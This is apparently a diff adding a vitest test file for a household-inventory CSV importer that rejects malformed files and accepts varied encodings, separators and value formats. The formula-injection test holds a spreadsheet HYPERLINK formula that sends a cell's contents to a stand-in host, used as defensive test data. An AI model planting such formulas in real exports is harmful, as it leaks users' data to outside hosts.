@@ -1,0 +1,160 @@
+import { existsSync } from 'node:fs'
+import { join, resolve } from 'node:path'
+import { describe, expect, test } from 'vitest'
+import { inspectSpreadsheet } from './inspect-spreadsheet.ts'
+import { newProblemList } from './problem-list.ts'
+import { readImportRows } from './read-spreadsheet.ts'
+import type { ImportRow } from './read-row.ts'
+
+const repository = resolve(import.meta.dirname, '../../../..')
+const folder = resolve(repository, process.env['CUBBY_SHARED'] ?? '../shared', 'data')
+const isAbsent = !existsSync(folder)
+
+async function read(file: string) {
+  const path = join(folder, file)
+  const problems = newProblemList()
+  const inspected = await inspectSpreadsheet(path, problems)
+  const rows: ImportRow[] = []
+  if (inspected !== undefined) {
+    for await (const row of readImportRows(path, inspected, problems)) rows.push(row)
+  }
+  return { inspected, rows, problems, reasons: problems.errors.map((error) => error.reason) }
+}
+
+/** The text of a row's custom field. */
+function field(row: ImportRow, name: string) {
+  return row.fields?.find((candidate) => candidate.name === name)?.text
+}
+
+describe.skipIf(isAbsent)('files to refuse', () => {
+  test.each([
+    [
+      'ragged-rows',
+      [
+        'Line 3 has 3 cells; the header has 5',
+        'Line 4 has 6 cells; the header has 5. Is a comma not quoted?',
+      ],
+    ],
+    ['unclosed-quote', ['The quote opened on line 3 is never closed']],
+    ['missing-name', ['Line 3: HB.name is empty', 'Line 5: HB.name is empty']],
+    ['too-long-name', ['Line 4: HB.name has 256 characters; at most 255 are allowed']],
+    ['huge-cell', ['Line 3: HB.description has 262,144 characters; at most 1,000 are allowed']],
+    [
+      'negative-quantities',
+      ['Line 2: HB.quantity is -1; it must be 0 or more', 'Line 5: HB.quantity is -24; it must be 0 or more'],
+    ],
+    ['duplicate-import-refs', ['Lines 3 and 5 have the same HB.import_ref hfdup002']],
+    [
+      'nul-bytes',
+      [
+        'Line 3 contains a NUL byte: this is not a text file',
+        'Line 4 contains a NUL byte: this is not a text file',
+      ],
+    ],
+    ['empty', ['The file is empty']],
+    ['header-only', ['The file has column names but no items']],
+  ])('%s.csv', async (name, expected) => {
+    expect((await read(`quirks/${name}.csv`)).reasons).toEqual(expected)
+  })
+})
+
+describe.skipIf(isAbsent)('files to accept', () => {
+  test.each([
+    ['excel-europe.csv', 'utf-8', ';'],
+    ['tab-separated.tsv', 'utf-8', '\t'],
+    ['utf8-bom.csv', 'utf-8', ','],
+    ['utf16le.csv', 'utf-16le', ','],
+    ['windows-1252.csv', 'windows-1252', ','],
+    ['crlf.csv', 'utf-8', ','],
+  ])('%s holds the six items of the flat, read as %s', async (file, encoding, separator) => {
+    const { inspected, rows, problems } = await read(`quirks/${file}`)
+    expect(inspected).toMatchObject({ encoding, separator, ignoredColumns: [] })
+    expect(problems).toEqual(newProblemList())
+    expect(rows).toHaveLength(6)
+    expect(rows).toEqual((await read('quirks/utf8-bom.csv')).rows)
+    expect(rows[0]).toMatchObject({ name: 'Coffee pot “Brava”, 0.75 l', labelNames: ['Kitchen', 'Fragile'] })
+    expect(rows[3]).toMatchObject({ notes: 'Wash at 60 °C.\n\nIron? ½ of it.', line: 5 })
+    expect(rows[5]).toMatchObject({
+      manufacturer: 'Žiža Optik',
+      notes: 'Field of view:\t6.5°\nWeight:\t980 g',
+    })
+  })
+
+  test('minimal-columns.csv: five items, and a warning that a second import makes five more', async () => {
+    const { rows, problems } = await read('quirks/minimal-columns.csv')
+    expect(rows).toHaveLength(5)
+    expect(rows[0]).toEqual({
+      line: 2,
+      importRef: '',
+      name: 'Beach umbrella',
+      locationPath: ['Holiday flat', 'Terrace'],
+    })
+    expect(problems.errors).toEqual([])
+    expect(problems.warnings.map((warning) => warning.reason)).toEqual([
+      '5 rows have no HB.import_ref: importing the file again creates those items a second time',
+    ])
+  })
+
+  test('unknown-columns.csv: three items and four ignored headers', async () => {
+    const { inspected, rows, problems } = await read('quirks/unknown-columns.csv')
+    expect(inspected?.ignoredColumns).toEqual(['Shelf colour', 'HB.barcode', 'hb.notes', 'Checked on'])
+    expect(rows.map((row) => row.notes)).toEqual(['Whistles.', '', 'Ash goes in the metal bin.'])
+    expect(problems.errors).toEqual([])
+  })
+
+  test('odd-dates.csv: the day as written', async () => {
+    const { rows, problems } = await read('quirks/odd-dates.csv')
+    expect(rows).toHaveLength(13)
+    expect(problems).toEqual(newProblemList())
+    for (const row of rows) {
+      expect([row.purchaseDate, row.warrantyExpires]).toEqual([
+        field(row, 'expect_purchase'),
+        field(row, 'expect_warranty'),
+      ])
+    }
+  })
+
+  test('odd-booleans.csv: every word as expected', async () => {
+    const { rows } = await read('quirks/odd-booleans.csv')
+    expect(rows).toHaveLength(18)
+    for (const row of rows) expect(String(row.insured)).toBe(field(row, 'expect_insured') || 'false')
+  })
+
+  test('slash-in-location-name.csv: only a slash between spaces separates', async () => {
+    const { rows } = await read('quirks/slash-in-location-name.csv')
+    expect(rows).toHaveLength(6)
+    for (const row of rows) {
+      expect(String(row.locationPath?.length)).toBe(field(row, 'expect_levels'))
+      expect(row.locationPath?.at(-1)).toBe(field(row, 'expect_last'))
+    }
+  })
+
+  test('decimal-quantities.csv: exact quantities', async () => {
+    const { rows } = await read('quirks/decimal-quantities.csv')
+    expect(rows.map((row) => row.quantity)).toEqual([120_000, 20_000, 30_000, 15_000, 2_500])
+  })
+
+  test('formula-injection.csv: formulas stay text', async () => {
+    const { rows, problems } = await read('quirks/formula-injection.csv')
+    expect(problems.errors).toEqual([])
+    expect(rows.map((row) => row.name).slice(0, 4)).toEqual([
+      '=HYPERLINK("https://example.invalid/?leak="&A2,"Receipt")',
+      '+2 °C thermostat probe',
+      '-20 °C sleeping bag',
+      '@home sign for the door',
+    ])
+    expect(rows[4]).toMatchObject({ description: '=1+1', notes: '=SUM(A1:A9)' })
+    expect(rows[7]).toMatchObject({ name: '=quoted already', description: '+1', notes: '-1' })
+  })
+
+  test('household.csv and its update: every row, nothing to complain about', async () => {
+    const household = await read('household.csv')
+    expect(household.problems).toEqual(newProblemList())
+    expect(household.rows).toHaveLength(424)
+    expect(household.rows.filter((row) => row.assetId === 0)).toHaveLength(67)
+    expect(household.rows.map((row) => row.importRef)).toEqual(
+      expect.arrayContaining(['00420815', '4e120775']),
+    )
+    expect((await read('household-update.csv')).rows).toHaveLength(40)
+  })
+})
